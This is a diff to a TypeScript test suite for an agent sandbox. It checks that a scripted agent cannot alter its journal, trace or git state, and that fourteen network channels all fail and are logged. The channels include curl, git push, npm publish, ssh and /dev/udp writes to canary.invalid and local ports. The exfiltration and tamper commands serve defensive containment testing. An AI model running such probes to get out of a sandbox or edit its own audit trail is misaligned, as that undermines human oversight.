@@ -1,5 +1,6 @@
 /** A real agent inside the fence, and what it finds there: no secrets, no answers, no journal, no way out. */
 import { existsSync, readFileSync } from "node:fs";
+import { createSocket } from "node:dgram";
 import { createServer } from "node:net";
 import type { AddressInfo } from "node:net";
 import { once } from "node:events";
@@ -26,6 +27,7 @@ const listener = createServer((socket) => {
   reached.push("TCP");
   socket.destroy();
 });
+const datagrams = createSocket("udp4").on("message", () => reached.push("UDP"));
 const ended: (() => void)[] = [];
 
 const LOOK = [
@@ -55,7 +57,7 @@ const edits = (state: string): string =>
 const REPOSITORY =
   "git log --all --format=%H; git reflog --all; git fsck --lost-found --unreachable; git cat-file --batch-all-objects --batch-check; git for-each-ref; git stash list; cat .git/packed-refs .git/FETCH_HEAD .git/ORIG_HEAD; git fetch --all; git fetch .. main";
 
-const channels = (port: number): string =>
+const channels = (port: number, udpPort: number): string =>
   [
     "curl -s -m 5 http://canary.invalid/",
     "curl -s -m 5 https://canary.invalid/",
@@ -67,9 +69,9 @@ const channels = (port: number): string =>
     "node -e \"fetch('https://canary.invalid/node')\"",
     "git push -q https://canary.invalid/x HEAD:x",
     `timeout 5 git push -q git://127.0.0.1:${port}/x HEAD:x`,
-    "npm publish --registry https://canary.invalid/ --fetch-retries 0 ./pack",
+    "npm publish --registry https://canary.invalid/ --//canary.invalid/:_authToken=x --fetch-retries 0 ./pack",
     `timeout 5 ssh -o BatchMode=yes -p ${port} canary@127.0.0.1 true`,
-    "ping -c 1 -W 1 canary.invalid",
+    `bash -c 'echo x > /dev/udp/127.0.0.1/${udpPort}'`,
     `curl -s -m 5 --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:${port}/`,
   ]
     .map((one) => `(${one}) </dev/null >> out.txt 2>&1`)
@@ -79,6 +81,8 @@ beforeAll(async () => {
   listener.listen(0, "127.0.0.1");
   await once(listener, "listening");
   const { port } = listener.address() as AddressInfo;
+  datagrams.bind(0, "127.0.0.1");
+  await once(datagrams, "listening");
   const steps: Record<number, Step[]> = {};
   place = await cliPlace({
     files: { "readme.md": "hello\n", "pack/package.json": '{"name":"canary-pack","version":"1.0.0"}' },
@@ -102,7 +106,7 @@ beforeAll(async () => {
     ),
     bash(`(${edits(state)}) > edits.txt 2>&1; true`),
     bash(`(${REPOSITORY}) > objects.txt 2>&1; true`),
-    bash(`${channels(port)}; echo done > made.txt`),
+    bash(`${channels(port, datagrams.address().port)}; echo done > made.txt`),
     { text: CLAIM },
   ];
   const args = [
@@ -119,6 +123,7 @@ beforeAll(async () => {
 afterAll(() => {
   for (const end of ended) end();
   listener.close();
+  datagrams.close();
 });
 
 it("the run ends with the right outcome, its driver healthy", () => {
@@ -169,6 +174,16 @@ it("none of ten edits of journal, trace, blobs and locks succeeds (A13)", async 
   const told = /trace\.db|journal\.db|\/blobs\/|\/agents\/|\/agent-tmp\/|\/verify\/|\.git\//;
   const touched = filesBelow(place.state).filter((file) => !told.test(file) && readFileSync(file).includes(TAMPERED));
   expect(touched).toEqual([]);
+  // Nor is any of it at the end of a database or in place of a branch's name.
+  for (const name of ["journal.db", "trace.db"])
+    expect(readFileSync(join(place.state, name)).subarray(-64).includes(TAMPERED)).toBe(false);
+  const heads = filesBelow(place.state).filter((file) => file.endsWith("/private.git/HEAD"));
+  expect(heads.map((file) => readFileSync(file, "utf8"))).toEqual([expect.stringMatching(/^ref: /)]);
+  expect((await place.pawl("verify", run)).code).toBe(0);
+  // They were tried, and what was to be edited was not there.
+  const said = readFileSync(join(place.repository.path, "edits.txt"), "utf8");
+  for (const part of ["blobs/*/*", "prepared.json", "private.git/HEAD", "instructions.md"])
+    expect(said).toContain(`${part}: No such file or directory`);
   const state = openState(place.env);
   try {
     // Read whole: the chain is checked to its end.
@@ -179,13 +194,16 @@ it("none of ten edits of journal, trace, blobs and locks succeeds (A13)", async 
 });
 
 it("of fourteen channels none gets out, and what went to the way out is in the trace (A16)", async () => {
+  // Each was tried: none for want of its program, or of something it looks for before it connects.
+  const out = readFileSync(join(place.repository.path, "out.txt"), "utf8");
+  expect(out).not.toMatch(/not found|ENEEDAUTH|No user exists/);
   expect(reached).toEqual([]);
   const state = openState(place.env);
   try {
     const lines = (await state.trace.read(run)).map(({ line }) => line).filter(({ kind }) => kind === "network");
     const tries = lines.map(({ data }) => data as { host: string; allowed: boolean });
     expect(tries.filter(({ allowed }) => allowed)).toEqual([]);
-    expect(tries.filter(({ host }) => host === "canary.invalid").length).toBeGreaterThanOrEqual(6);
+    expect(tries.filter(({ host }) => host === "canary.invalid").length).toBeGreaterThanOrEqual(7);
     expect(tries.some(({ host }) => host === "127.0.0.1")).toBe(true);
   } finally {
     state.close();
